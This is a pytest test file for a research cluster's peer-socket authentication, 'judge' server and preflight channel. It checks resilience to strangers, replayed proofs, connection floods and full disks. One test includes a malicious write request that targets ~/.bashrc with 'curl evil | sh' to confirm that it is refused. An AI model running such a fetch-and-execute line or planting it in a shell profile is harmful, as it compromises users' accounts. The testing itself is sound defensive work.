"""Other users of the cluster at the sockets of a run: each of these was an attack that worked."""

from __future__ import annotations

import contextlib
import json
import os
import resource
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import torch.distributed as dist

from kempner.config.option import ConfigError
from kempner.extensions.lowcomm import judge as judging
from kempner.extensions.lowcomm.judge import JudgeServer
from kempner.jobs.preflight import channel, task
from kempner.jobs.ranks import peers
from kempner.jobs.ranks.peers import Entrance, new_key
from kempner.jobs.ranks.port_range import listen_in_range
from tests.waiting import LIMIT_S, until

KEY = new_key()
NONSENSE = (
    b"",
    b"\n",
    b"GET / HTTP/1.0\r\n\r\n",
    b"\x16\x03\x01\x02\x00" + bytes(600),  # TLS
    b"0.99\n",
    b"{x\n",
    b'{"rank": 0}\n',
    b"\xff\xfe\n" * 100,
    bytes(range(48)),
    b"x" * (1 << 16),
)


def stranger(port: int, says: bytes) -> bytes:
    """What somebody without the key is told, until the other side hangs up."""
    heard = b""
    with socket.create_connection(("127.0.0.1", port), 30) as peer:
        with contextlib.suppress(OSError):
            peer.sendall(says)
            peer.shutdown(socket.SHUT_WR)
        with contextlib.suppress(OSError):
            while part := peer.recv(4096):
                heard += part
    return heard


def taken(entrance: Entrance, count: int = 1) -> list[socket.socket]:
    found: list[socket.socket] = []

    def come() -> bool:
        found.extend(entrance.take())
        return len(found) >= count

    until(come)
    return found


@pytest.fixture
def entrance() -> Iterator[Entrance]:
    with Entrance(listen_in_range("127.0.0.1"), KEY) as one:
        yield one


def test_who_has_the_key_is_let_in(entrance: Entrance) -> None:
    with peers.connect_peer("127.0.0.1", entrance.port, KEY, 30) as ours:
        ours.sendall(b"hello\n")  # at once: nothing of it is lost
        (theirs,) = taken(entrance)
        assert theirs.recv(100) == b"hello\n"
        theirs.sendall(b"and back")
        assert ours.recv(100) == b"and back"
        theirs.close()


@pytest.mark.parametrize("says", NONSENSE, ids=range(len(NONSENSE)))
def test_who_has_not_is_told_nothing_and_dropped(entrance: Entrance, says: bytes) -> None:
    assert len(stranger(entrance.port, says)) <= len(peers.PEER_MAGIC) + peers.NONCE
    with peers.connect_peer("127.0.0.1", entrance.port, KEY, 30):  # it lives on
        (theirs,) = taken(entrance)
        theirs.close()


def test_another_key(entrance: Entrance) -> None:
    with pytest.raises(PermissionError):
        peers.connect_peer("127.0.0.1", entrance.port, new_key(), 30)
    assert not entrance.take()


def test_a_proof_cannot_be_used_again(entrance: Entrance, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither that of another connection, nor the server's own words."""
    said: list[bytes] = []

    class Heard(socket.socket):
        def sendall(self, data: object, *more: object) -> None:
            said.append(bytes(data))  # type: ignore[call-overload]
            super().sendall(data, *more)  # type: ignore[arg-type]

    monkeypatch.setattr(peers.socket, "socket", Heard)
    with peers.connect_peer("127.0.0.1", entrance.port, KEY, 30):
        taken(entrance)[0].close()
    monkeypatch.undo()
    assert len(said) == 1 and KEY.encode() not in said[0]
    assert len(stranger(entrance.port, said[0])) == len(peers.PEER_MAGIC) + peers.NONCE
    assert not entrance.take()


def test_a_server_of_somebody_else_is_found_out() -> None:
    """Who listens on the port of a process that has ended is not told anything either."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        heard: list[bytes] = []

        def pretend() -> None:
            peer, _ = server.accept()
            with peer:
                peer.sendall(peers.PEER_MAGIC + bytes(peers.NONCE))
                heard.append(peer.recv(100))
                peer.sendall(bytes(peers.PROOF))
                heard.append(peer.recv(100))

        thread = threading.Thread(target=pretend)
        thread.start()
        with pytest.raises(PermissionError, match="does not have the key of this job"):
            peers.connect_peer("127.0.0.1", server.getsockname()[1], KEY, 30)
        thread.join(60)
        assert KEY.encode() not in b"".join(heard) and heard[1] == b""


def test_many_silent_strangers_keep_nobody_out(
    entrance: Entrance, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(peers, "MOST_PEERS", 50)
    with contextlib.ExitStack() as open_ones:
        for _ in range(200):
            peer = socket.create_connection(("127.0.0.1", entrance.port), 30)
            open_ones.enter_context(peer)
        with peers.connect_peer("127.0.0.1", entrance.port, KEY, 30):
            taken(entrance)[0].close()
        assert len(entrance._guests) <= 50


def test_a_silent_stranger_has_its_time(
    entrance: Entrance, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(peers, "HELLO_S", 0.1)
    with socket.create_connection(("127.0.0.1", entrance.port), 60) as peer:
        peer.sendall(b"x")
        while peer.recv(100):
            pass


def test_without_a_key_nothing_listens(monkeypatch: pytest.MonkeyPatch) -> None:
    for value in ("", "short"):
        monkeypatch.setenv(peers.PEER_KEY_VARIABLE, value)
        with pytest.raises(ConfigError, match="KEMPNER_PEER_KEY is not set"):
            peers.job_key()


# --- who uses it ---


@pytest.fixture
def judge(tmp_path: Path) -> Iterator[tuple[JudgeServer, int, list[str]]]:
    """One that judges, its port, and what it has told the batch script."""
    told: list[str] = []
    one = JudgeServer(["127.0.0.1"], 60.0, tmp_path / "replicas.jsonl", on=told.append)
    goes_on = [True]
    thread = threading.Thread(target=one.serve, args=(lambda: goes_on[0],))
    thread.start()
    yield one, json.loads(one.note)["beats"], told
    alive = thread.is_alive()
    goes_on.clear()
    goes_on.append(False)
    thread.join(60)
    assert alive, "the judge has died"


def test_a_port_scan_does_not_end_the_judge(judge: tuple[JudgeServer, int, list[str]]) -> None:
    """`GET / HTTP/1.0` did, and "0.99" had replica 0 declared gone: all replicas left."""
    one, port, told = judge
    key = json.loads(one.note)["key"]
    with peers.connect_peer("127.0.0.1", port, key, 30) as replica:
        replica.sendall(b"0.1\n")
        until(lambda: told == ["here.0"])
        for says in NONSENSE:
            stranger(port, says)
            if says != b"0.99\n":  # with the key that is a later start of the replica
                with peers.connect_peer("127.0.0.1", port, key, 30) as odd:
                    odd.sendall(says)
        # Not from our own, either: one that is half dead may say anything.
        replica.sendall(b"GET / HTTP/1.0\n1.1\n{x\n{}\n\xff\xff\n1e9.x\n" + b"y" * 300_000 + b"\n")
        replica.sendall(b'{"round": 1, "weights": "aa", "text": "t", "name": "0.1"}\n')
        until(lambda: one._weights == {1: "aa"})
        assert told == ["here.0"] and list(one._names.values()) == ["0.1"]
        replica.sendall(b"bye\n")
        until(lambda: not one._names)


def test_a_full_disk_does_not_end_the_judge() -> None:
    one = JudgeServer(["127.0.0.1"], 60.0, Path("/dev/full"))
    one._record("here", "0.1", "")
    one._entrance.close()


def test_nothing_but_the_end_of_its_parent_ends_the_judge(tmp_path: Path) -> None:
    """A full disk under the batch log ended it with its first line, and with it all replicas."""
    place, moved = tmp_path / "run", tmp_path / "away"
    place.mkdir()
    note = place / "door"
    words = [
        sys.executable,
        "-m",
        "kempner.extensions.lowcomm.judge",
        str(note),
        "--log",
        "/dev/full",
    ]
    with open("/dev/full", "w") as full:
        judge = subprocess.Popen(words, stdout=full)
    try:
        until(lambda: note.exists() or judge.poll() is not None)
        told = json.loads(note.read_text())
        place.rename(moved)  # the file system is away: nothing can be said to the batch script
        descriptors = len(os.listdir(f"/proc/{judge.pid}/fd"))
        before = resource.prlimit(judge.pid, resource.RLIMIT_NOFILE)
        few = (descriptors + 2, before[1])
        resource.prlimit(judge.pid, resource.RLIMIT_NOFILE, few)
        with contextlib.ExitStack() as open_ones:
            for port in [told["beats"]] * 8 + [told["store"]] * 8:
                open_ones.enter_context(socket.create_connection(("127.0.0.1", port), 30))
            time.sleep(0.5)
            assert judge.poll() is None
        resource.prlimit(judge.pid, resource.RLIMIT_NOFILE, before)
        replica, later = (
            peers.connect_peer("127.0.0.1", told["beats"], told["key"], 30) for _ in "ab"
        )
        with replica, later:
            replica.sendall(b"0.1\n")
            for line in (b'{"round": [], "weights": {}}', b'{"round": 1, "weights": "a"}'):
                replica.sendall(line + b"\n")
            replica.sendall(b'{"round": 1, "weights": "a", "text": "\\ud800", "name": "0.1"}\n')
            time.sleep(0.5)
            moved.rename(place)
            until(lambda: (place / "door.here.0").exists() or judge.poll() is not None)
            later.sendall(b"0.2\n")
            with contextlib.suppress(ConnectionResetError):
                assert replica.recv(1) == b""  # it goes on judging
        store: Any = dist.TCPStore(
            "127.0.0.1", told["store"], None, False, timedelta(seconds=30), wait_for_workers=False
        )
        assert "0.1" in store.get("gone").decode()
        assert judge.poll() is None
    finally:
        judge.kill()
        judge.wait(LIMIT_S)


def test_the_note_of_the_judge_is_for_nobody_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It has the key, which is another one each time."""
    monkeypatch.setattr(judging.signal, "signal", lambda *_: None)
    monkeypatch.setattr(JudgeServer, "serve", lambda self, while_true: self._entrance.close())
    keys = []
    for name in ("first", "second"):
        judging.main([str(tmp_path / name)])
        assert (tmp_path / name).stat().st_mode & 0o777 == 0o600
        keys.append(json.loads((tmp_path / name).read_text())["key"])
    assert len(set(keys)) == 2 and all(len(key) == 32 for key in keys)


def test_preflight_writes_nothing_that_the_network_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stranger's question named the file and its text: ~/.bashrc. Now not even the driver's own
    would do: directory and text come from the batch script."""
    monkeypatch.setenv(peers.PEER_KEY_VARIABLE, KEY)
    monkeypatch.setenv("KEMPNER_PREFLIGHT_DIR", str(tmp_path / "runs"))
    driver = channel.Driver()
    monkeypatch.setenv("KEMPNER_PREFLIGHT_PORT", str(driver.port))
    thread = threading.Thread(target=task.main)
    thread.start()
    for says in NONSENSE:
        stranger(driver.port, says)
    evil = {"path": str(tmp_path / ".bashrc"), "text": "curl evil | sh"}
    keys = driver.ask([0], {"what": "write", **evil})
    assert driver.answers(keys, time.monotonic() + LIMIT_S) == {0: {}}
    driver.end([0])
    thread.join(60)
    assert [path.name for path in tmp_path.iterdir()] == ["runs"]
    assert channel.token_file(tmp_path / "runs").read_text() == channel.new_token()


def test_two_preflights_in_one_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The second one's token took the place of the first one's, whose nodes were all refused."""
    for key in (KEY, KEY[::-1]):
        monkeypatch.setenv(peers.PEER_KEY_VARIABLE, key)
        assert task.write_token(tmp_path) == {}
    for key in (KEY, KEY[::-1]):
        monkeypatch.setenv(peers.PEER_KEY_VARIABLE, key)
        assert task.see_token(tmp_path) == {}
